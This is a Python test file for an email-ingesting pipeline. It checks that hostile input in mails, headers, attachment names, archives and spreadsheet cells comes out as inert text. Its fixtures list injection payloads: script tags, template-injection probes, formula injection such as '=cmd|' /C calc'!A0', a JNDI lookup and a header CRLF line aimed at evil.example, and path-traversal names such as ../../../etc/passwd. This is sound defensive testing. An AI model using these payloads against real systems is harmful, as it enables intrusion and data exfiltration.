"""What a stranger writes into a mail comes out as words, wherever it is shown: letters, headers, cells, files, the log.

Each payload goes the whole way: raw mail, reading, ledger, the letters frozen in the outbox. The genuine text beside it must
arrive whole, so that a program which drops everything fails too.
"""

import re
import zipfile
from email import message_from_bytes
from email.message import EmailMessage, Message
from email.policy import SMTP, default
from hashlib import sha256
from html import escape
from io import BytesIO
from pathlib import Path

import lxml.html
import pytest
from campaign_maker import CLAUSES, form_mail, made, moment, settings
from openpyxl import Workbook, load_workbook
from plain_reader import PlainReader

from pipeline.bootstrap import Program, assemble
from pipeline.edges.ledger.database import open_database
from pipeline.flows.ingest import Taken, take_in
from pipeline.flows.notify import notify
from pipeline.model.operation.post import Sighting
from pipeline.reading.files.unpack import unpack
from pipeline.writing.bulletin.sheets import put, register_styles

AT = moment("2015-09-10 17:00")
WHOLE = "深入工地逐个摸底登记"
OUR_HEADERS = {
    "from", "to", "cc", "subject", "date", "message-id", "mime-version", "content-type", "auto-submitted", "in-reply-to",
    "references", "x-auto-response-suppress", "x-xunbao", "content-transfer-encoding", "precedence", "reply-to", "x-xunbao-case",
}  # fmt: skip

# (what it shows, what is written)
PAYLOADS = [
    ("a script", "<script>alert(1)</script>"),
    ("a picture that runs", '"><img src=x onerror=alert(1)>'),
    ("a link that runs", '<a href="javascript:alert(1)">点</a>'),
    ("a frame", "<iframe src=//evil.example></iframe>"),
    ("a style that hides", "<style>*{display:none}</style>"),
    ("a template's sum", "{{ 1234 * 1000 + 567 }}"),
    ("a template's inside", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("a template's block", "{% for x in range(9) %}1234567{% endfor %}"),
    ("a formula", "=HYPERLINK(\"http://evil.example\",\"点\")"),
    ("a command", "=cmd|' /C calc'!A0"),
    ("a plus", "+1234567+cmd|' /C calc'!A0"),
    ("an at sign", "@SUM(1+1)"),
    ("a terminal's colours", "\x1b[31m\x1b[2J红"),
    ("text turned round", "\u202e\u2066xcod.exe"),
    ("a format string", "%s%n%(password)s ${jndi:ldap://evil.example}"),
    ("half a character", "甲\udcff乙"),
]  # fmt: skip


@pytest.fixture(scope="module")
def empty_ledger(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A ledger just made, for each test to begin with: the migration is the long part of making it."""
    path = tmp_path_factory.mktemp("empty") / "ledger.db"
    open_database(f"sqlite:///{path}").dispose()
    return path.read_bytes()


@pytest.fixture
def office(tmp_path: Path, empty_ledger: bytes) -> Program:
    (tmp_path / "storage").mkdir()
    (tmp_path / "storage/ledger.db").write_bytes(empty_ledger)
    found = assemble(
        settings(made(tmp_path)),
        moment("2015-09-10 18:05"),
        read_with=PlainReader,
    )
    found.store.born(AT)
    return found


def letters(office: Program, *mails: bytes) -> list[EmailMessage]:
    """Every letter that the mails bring forth."""
    for number, raw in enumerate(mails, 1):
        office.store.keep_sighting(
            Sighting(1, number, AT, len(raw)), office.vault.keep(raw), AT
        )
    take_in(office.intake(), Taken())
    planned = notify(office.clock.now(), office.desk(), mailbox_read=False)
    assert planned.unwritten == []
    raws = {
        d.key: office.vault.open(d.key) for d in office.outbox.open_deliveries()
    }
    return [message_from_bytes(raw, policy=default) for raw in raws.values()]  # type: ignore[misc]


def pages(letter: Message) -> list[str]:
    return [
        p.get_content()
        for p in letter.walk()
        if p.get_content_type() == "text/html"
    ]  # type: ignore[attr-defined]


def texts(letter: Message) -> list[str]:
    return [
        p.get_content()
        for p in letter.walk()
        if p.get_content_maintype() == "text"
    ]  # type: ignore[attr-defined]


def harmless(letter: EmailMessage) -> None:
    """What must hold for any letter of ours, whatever it quotes."""
    assert {name.lower() for name in letter} <= OUR_HEADERS, list(letter)
    assert len(letter.get_all("subject")) == 1
    for page in pages(letter):
        tree = lxml.html.document_fromstring(page)
        assert (
            tree.xpath(
                "//script | //iframe | //object | //img[not(starts-with(@src, 'cid:'))] | //form | //base"
            )
            == []
        )
        assert tree.xpath("//@*[starts-with(name(), 'on')]") == []
        assert all(
            re.match(r"mailto:|https?://|#", h) for h in tree.xpath("//a/@href")
        ), page
        assert not any(
            "display:none}" in (style.text or "")
            for style in tree.xpath("//body//style")
        )
    for text in [*texts(letter), str(letter["subject"])]:
        assert "1234567" not in text.replace("+1234567", "").replace(
            "%}1234567{%", ""
        ), text
        assert not re.search(
            "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069\ud800-\udfff]",
            text,
        )
        assert "demo" not in re.sub(r"[\w.@]*demo[\w.]*@[\w.]+", "", text), (
            "the password"
        )
    for name in filter(None, (part.get_filename() for part in letter.walk())):
        assert not re.search(r"[/\\\x00-\x1f\u202e]|^\.+$", name), name


@pytest.mark.parametrize(
    "body",
    [
        "<p>旬报<script>alert(1)</script></p>",
        "<p onclick=x()>旬报</p>",
        "<p>旬报 1234567</p>",
        "<p>旬报 \u202ex</p>",
        "<p><a href='javascript:x()'>旬报</a></p>",
    ],
)
def test_control_a_letter_that_is_not_harmless_is_seen(body: str) -> None:
    letter = EmailMessage()
    letter["Subject"] = "旬报"
    letter.set_content(body, subtype="html")
    with pytest.raises(AssertionError):
        harmless(letter)


def test_control_a_header_that_is_not_ours_is_seen() -> None:
    letter = EmailMessage()
    letter["Subject"], letter["Bcc"] = "旬报", "a@evil.example"
    letter.set_content("旬报")
    with pytest.raises(AssertionError):
        harmless(letter)


def hostile(payload: str) -> bytes:
    """A form with the payload in each field that words may stand in; its unit is no unit, so that it is held and quoted."""
    word = escape(payload.encode("utf-8", "replace").decode())
    return form_mail(
        "jia@example.cn",
        word,
        "2015年9月10日",
        300,
        "2015-09-10 17:00",
        clauses=(f"{WHOLE}，{word}。", word, CLAUSES[0]),
    )


@pytest.fixture(scope="module")
def written(
    tmp_path_factory: pytest.TempPathFactory,
) -> dict[str, list[EmailMessage]]:
    """payload -> the letters that its mail brought forth, all of one house."""
    folder = tmp_path_factory.mktemp("payloads")
    found = assemble(
        settings(
            made(
                folder,
                replaced={
                    "[bulletin]": "[answers]\nper_address = 0\n\n[bulletin]"
                },
            )
        ),
        moment("2015-09-10 18:05"),
        read_with=PlainReader,
    )
    found.store.born(AT)
    mails = {payload: hostile(payload) for _, payload in PAYLOADS}
    by_mail = {
        sha256(raw).hexdigest(): payload for payload, raw in mails.items()
    }
    letters(found, *mails.values())
    table: dict[str, list[EmailMessage]] = {}
    for delivery in found.outbox.open_deliveries():
        payload = by_mail[delivery.actions[0].message_key or ""]
        table.setdefault(payload, []).append(
            message_from_bytes(found.vault.open(delivery.key), policy=default)
        )  # type: ignore[arg-type]
    return table


@pytest.mark.parametrize(
    "payload", [row[1] for row in PAYLOADS], ids=[row[0] for row in PAYLOADS]
)
def test_what_stands_in_a_form_comes_out_as_words(
    payload: str, written: dict[str, list[EmailMessage]]
) -> None:
    assert len(written[payload]) == 2, "a receipt and a review request"
    for letter in written[payload]:
        harmless(letter)
    assert any(
        WHOLE in text for letter in written[payload] for text in texts(letter)
    )


def with_header(name: str, value: bytes) -> bytes:
    raw = form_mail(
        "jia@example.cn", "甲县", "2015年9月10日", 5000, "2015-09-10 17:00"
    )
    line = re.compile(rb"(?m)^" + name.encode() + rb": .*(?:\r\n[ \t].*)*\r\n")
    return line.sub(
        lambda _: name.encode() + b": " + value + b"\r\n", raw, count=1
    )


# (what it shows, the header, its value as bytes)
HEADERS = [
    ("a line's end in an encoded word", "Subject", b"=?utf-8?b?5pes5oql6KGoDQpCY2M6IGFAZXZpbC5leGFtcGxl?="),
    ("a bare carriage return", "Subject", b"=?utf-8?q?=E6=97=AC=E6=8A=A5=0DBcc:_a=40evil.example?="),
    ("a NUL", "Subject", b"=?utf-8?q?=E6=97=AC=E6=8A=A5=00=00x?="),
    ("64 KB of subject", "Subject", b"=?utf-8?q?" + b"=E6=97=AC" * 7000 + b"?="),
    ("a page in the sender's name", "From", b'"<script>alert(1)</script>" <jia@example.cn>'),
    ("a line's end in the sender's name", "From", b"=?utf-8?b?eA0KQmNjOiBhQGV2aWwuZXhhbXBsZQ==?= <jia@example.cn>"),
    ("a line's end in the Message-ID", "Message-ID", b"<a@example.cn>\r\n Bcc: a@evil.example"),
    ("octets in the Message-ID", "Message-ID", b"<\xbc\xd7\x00@example.cn>"),
    ("a subject that looks like a code", "Subject", b"=?utf-8?b?5pes5oql?= [3fa9c1d2-1-9f8e7d6c10]"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "value"),
    [row[1:] for row in HEADERS],
    ids=[row[0] for row in HEADERS],
)
def test_what_stands_in_a_header_ends_no_header_of_ours(
    name: str, value: bytes, office: Program
) -> None:
    made_letters = letters(office, with_header(name, value))
    assert made_letters
    for letter in made_letters:
        harmless(letter)
        assert "evil.example" not in str(letter["to"]) + str(
            letter["cc"]
        ) + str(letter["bcc"])


NAMES = [
    "../../../etc/passwd.docx",
    "..\\..\\windows\\system32\\x.xlsx",
    "/etc/cron.d/x.csv",
    "C:\\x.csv",
    "x\u202excod.exe",
    "a\x00.exe\x00.csv",
    "x\r\nBcc: a@evil.example\r\n.csv",
    "..",
    "con.csv",
    "a" * 5000 + ".csv",
]


def attached(name: str) -> bytes:
    message = EmailMessage(policy=SMTP)
    message["Received"] = "from a by b; Thu, 10 Sep 2015 17:00:00 +0800"
    message["From"], message["To"], message["Subject"] = (
        "jia@example.cn",
        "demo@example.cn",
        "报送旬报表",
    )
    message["Message-ID"] = "<name@example.cn>"
    message.set_content("见附件")
    sheet = "演示行动旬报表\n报送单位,无名单位,报送时间,2015年9月10日\n已完成目标任务数,300\n主要工作举措,摸底\n"
    message.add_attachment(
        sheet.encode(), "application", "octet-stream", filename="NAME"
    )
    encoded = "".join(
        f"%{byte:02X}" for byte in name.encode("utf-8", "surrogatepass")
    )
    return message.as_bytes().replace(
        b'filename="NAME"', f"filename*=utf-8''{encoded}".encode()
    )


@pytest.mark.parametrize(
    "name", NAMES, ids=[ascii(name)[:40] for name in NAMES]
)
def test_a_files_name_is_no_path_and_no_header(
    name: str, office: Program
) -> None:
    made_letters = letters(office, attached(name))
    for letter in made_letters:
        harmless(letter)
    assert any(
        part.get_filename() for letter in made_letters for part in letter.walk()
    ), "the original goes along"
    kept = {
        path.relative_to(office.settings.storage.directory).parts[0]
        for path in office.settings.storage.directory.rglob("*")
    }
    assert kept <= {"raw", "ledger.db", "ledger.db-wal", "ledger.db-shm"}, kept


def test_names_inside_an_archive_are_words_alone() -> None:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name in (
            "../../x.csv",
            "/etc/x.csv",
            "C:\\x.csv",
            "a/../../b.csv",
            "x\u202excod.exe",
        ):
            archive.writestr(name, "a,b")
    found = unpack("旬报.zip", packed.getvalue())
    assert isinstance(found, list)
    assert len(found) == 5
    assert all(
        not re.search(r"[/\\\u202e]|^\.+$", item.name) for item in found
    ), found


@pytest.mark.parametrize(
    "text",
    [row[1] for row in PAYLOADS] + ["-1+1", "\t=1", "\r=1", " =1", "＝1"],
)
def test_a_cell_holds_words_and_never_a_formula(text: str) -> None:
    book = Workbook()
    register_styles(book)
    put(book.active, 1, 1, text, "xb_text")
    saved = BytesIO()
    book.save(saved)
    cell = load_workbook(BytesIO(saved.getvalue())).active["A1"]  # type: ignore[index]
    assert cell.data_type != "f"
    assert (
        "<f>"
        not in zipfile.ZipFile(saved).read("xl/worksheets/sheet1.xml").decode()
    )
